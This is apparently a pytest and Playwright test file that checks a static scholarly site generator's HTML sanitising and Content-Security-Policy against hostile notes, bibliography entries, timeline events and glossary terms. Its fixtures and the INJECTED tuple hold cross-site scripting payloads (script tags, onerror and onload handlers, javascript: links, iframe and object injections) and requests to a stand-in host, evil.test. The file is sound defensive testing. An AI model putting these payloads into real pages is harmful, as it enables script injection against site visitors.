"""Hostile notes, works, terms and events in a real browser: nothing runs, nothing is asked for."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from edition.building import Steps, build_site
from edition.files import Edition
from hostile import ALL, note
from playwright.sync_api import BrowserContext, Page
from trees import copy_tiny
from watching import Watch

CALLS = "window.called = 0; window.run = () => { window.called += 1; };"
BIB = """
@book{dale1990,
  label = {9},
  printed = {<script>run()</script> <img src=x onerror=run()> [x](javascript:run()) {: onclick=x}},
  title = {<img src=x onerror=run()> [x](javascript:run()) {{ config }} "><script>run()</script>},
  author = {{<svg/onload=run()>}},
  publisher = {"><img src=x onerror=run()>},
  doi = {10.1/"><script>run()</script>},
  url = {javascript:run()},
  note = {![x](http://evil.test/x.png)},
  langid = {english},
}
"""
EVENTS = """\
- id: raised
  date: 1998
  basis: stated
  status: occurred
  title: '"><img src=x onerror=run()> [x](javascript:run()) <script>run()</script>'
  kind: economy
  conflict: '<svg/onload=run()>'
  note: '![x](http://evil.test/x.png)'
  evidence: [{passage: lee-2021:p1, as_given: '1998 <img src=x onerror=run()>'}]
"""
TERM = """\
---
id: flood
kind: concept
forms: {en: [flood, '<img src=x onerror=run()>'], ru: ['"><script>run()</script>'], kk: []}
sources: [lee-2021:p1]
---
Water <script>run()</script> ![x](http://evil.test/x.png) [x](javascript:run()) <svg/onload=run()>
{: onclick=run() }
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny edition with every hostile body, title and definition, built despite its faults."""
    root = copy_tiny(tmp_path_factory.mktemp("hostile") / "edition")
    folder = root / "docs" / "annotations" / "lee-2021"
    folder.mkdir(parents=True)
    for number, hostile in enumerate(ALL):
        path = folder / f"h-{number:03d}.md"
        path.write_bytes(note(hostile.body, f"lee-2021:p{number % 4 + 1}"))
    # What the reader refuses is shown too, as if it had got through.
    lenient = pytest.MonkeyPatch()
    lenient.setattr("edition.readers.notes._sound", lambda *_: True)
    lenient.setattr("edition.readers.notes.is_knotted", lambda _: False)
    lenient.setattr("edition.producer.has_errors", lambda _: False)
    lenient.delenv("EDITION_TEXTS", raising=False)
    with (root / "bib" / "lee-2021.bib").open("a", encoding="utf-8") as file:
        file.write(BIB)
    (root / "docs" / "timeline").mkdir(exist_ok=True)
    (root / "docs" / "timeline" / "events.yml").write_text(EVENTS, "utf-8")
    (root / "docs" / "glossary").mkdir(exist_ok=True)
    (root / "docs" / "glossary" / "flood.md").write_text(TERM, "utf-8")
    try:
        return build_site(Edition(root), Steps()).site
    finally:
        lenient.undo()


@pytest.fixture(scope="module")
def bare_site(hostile_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same site without its policies, so that nothing but the cleaning itself protects it."""
    bare = Path(shutil.copytree(hostile_site, tmp_path_factory.mktemp("bare") / "site"))
    for path in bare.rglob("*.html"):
        page = path.read_text("utf-8")
        assert "Content-Security-Policy" in page
        page = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
        path.write_text(page, "utf-8")
    return bare


PAGES = (
    "articles/lee-2021/",
    "notes/",
    "notes/by/ada-reader/",
    "notes/tag/test/",
    "works/dale1990/",
    "bibliography/",
    "timeline/",
    "glossary/",
    "glossary/flood/",
    "articles/ivanova-2019/",
)


def open_page(context: BrowserContext, address: str) -> tuple[Page, Watch]:
    page = context.new_page()
    watch = Watch(page, address)
    page.on("dialog", lambda dialog: (watch.console.append("dialog"), dialog.dismiss()))
    page.add_init_script(CALLS)
    page.goto(address, wait_until="load")
    return page, watch


def stir(page: Page) -> None:
    """Open and point at everything that a handler could wait for."""
    page.evaluate(
        """() => {
            for (const fold of document.querySelectorAll("details")) fold.open = true;
            for (const one of document.querySelectorAll("main *")) {
                for (const kind of ["mouseover", "pointerenter", "focus", "blur", "toggle"]) {
                    one.dispatchEvent(new Event(kind, { bubbles: true }));
                }
            }
        }"""
    )
    page.wait_for_timeout(150)


@pytest.mark.parametrize("address", PAGES)
def test_nothing_runs_and_nothing_is_asked_for(address: str, served: str, context: BrowserContext):
    page, watch = open_page(context, served + address)
    stir(page)
    assert page.evaluate("window.called") == 0
    assert watch.foreign == []
    assert watch.console == []
    assert page.locator("main script:not([src])").count() == 0


def test_bodies_hold_allowed_elements_alone(served: str, context: BrowserContext):
    page, _ = open_page(context, served + "notes/")
    assert page.locator(".mv-anno-body").count() == len(ALL)
    found = page.evaluate(
        """() => {
            const tags = new Set("P BR EM STRONG CODE PRE BLOCKQUOTE UL OL LI HR A".split(" "));
            const faults = [];
            for (const body of document.querySelectorAll(".mv-anno-body")) {
                if (!body.textContent.trim()) faults.push("empty " + body.dataset.note);
                for (const one of body.querySelectorAll("*")) {
                    if (!tags.has(one.tagName)) faults.push(one.outerHTML.slice(0, 80));
                    for (const { name, value } of one.attributes) {
                        const known = one.tagName === "A" && "href rel class".includes(name);
                        if (!known) faults.push(`${one.tagName} ${name}=${value}`);
                    }
                    if (one.tagName === "A" && one.hasAttribute("href")) {
                        if (!/^https?:$/.test(one.protocol)) faults.push(one.href);
                        if (one.rel !== "nofollow noopener ugc") faults.push(one.rel);
                    }
                }
            }
            return faults;
        }"""
    )
    # A row of stars is a rule of Markdown, and says nothing.
    assert [f for f in found if not f.startswith("empty")] == []
    assert len(found) <= 2, found


def test_the_page_around_the_bodies_is_whole(served: str, context: BrowserContext):
    page, _ = open_page(context, served + "articles/lee-2021/")
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((e) => e.id)")
    assert len(ids) == len(set(ids))
    assert page.locator("h1").count() == 1
    assert page.locator("main").count() == 1
    assert page.locator(".mv-par").count() == 4
    assert page.locator(".mv-par .mv-anno").count() == len(ALL)
    assert page.locator("footer").count() == 1


INJECTED = (
    "<script>run()</script>",
    "<script src='data:text/javascript,run()'></script>",
    "<script src='http://evil.test/x.js'></script>",
    "<img src=x onerror=run()>",
    "<a id=click href='javascript:run()'>x</a>",
    "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<img src='http://evil.test/x.png'>",
    "<form action='http://evil.test/'><button id=send>x</button></form>",
    "<object data='data:text/html,<script>parent.run()</script>'></object>",
    "<base href='http://evil.test/'><script src='x.js'></script>",
    '<p style="background: url(http://evil.test/x.png)">x</p>',
)


@pytest.fixture(scope="module")
def injected(hostile_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site with a copy of one page for each piece of markup, put in past all cleaning."""
    folder = Path(shutil.copytree(hostile_site, tmp_path_factory.mktemp("injected") / "site"))
    text = (folder / "articles" / "ivanova-2019" / "index.html").read_text("utf-8")
    for number, markup in enumerate(INJECTED):
        path = folder / "articles" / f"injected-{number}" / "index.html"
        path.parent.mkdir()
        path.write_text(text.replace("</main>", f"{markup}</main>", 1), "utf-8")
    return folder


@pytest.fixture(scope="module")
def served(bare_site: Path, serve: Callable[[Path], str]) -> str:
    """The address of the site without its policies."""
    return serve(bare_site)


@pytest.fixture(scope="module")
def guarded(injected: Path, serve: Callable[[Path], str]) -> str:
    """The address of the site with the injected pages."""
    return serve(injected)


@pytest.mark.parametrize("markup", INJECTED)
def test_policy_stops_what_would_have_got_through(
    markup: str, guarded: str, context: BrowserContext
):
    page, watch = open_page(context, f"{guarded}articles/injected-{INJECTED.index(markup)}/")
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    for name in ("click", "send"):
        if page.locator(f"#{name}").count():
            page.evaluate("id => document.getElementById(id).click()", name)
    page.wait_for_timeout(200)
    assert page.evaluate("window.called") == 0
    assert [url for url in asked if "evil.test" in url] == []
    assert any("Content Security Policy" in said for said in watch.console)
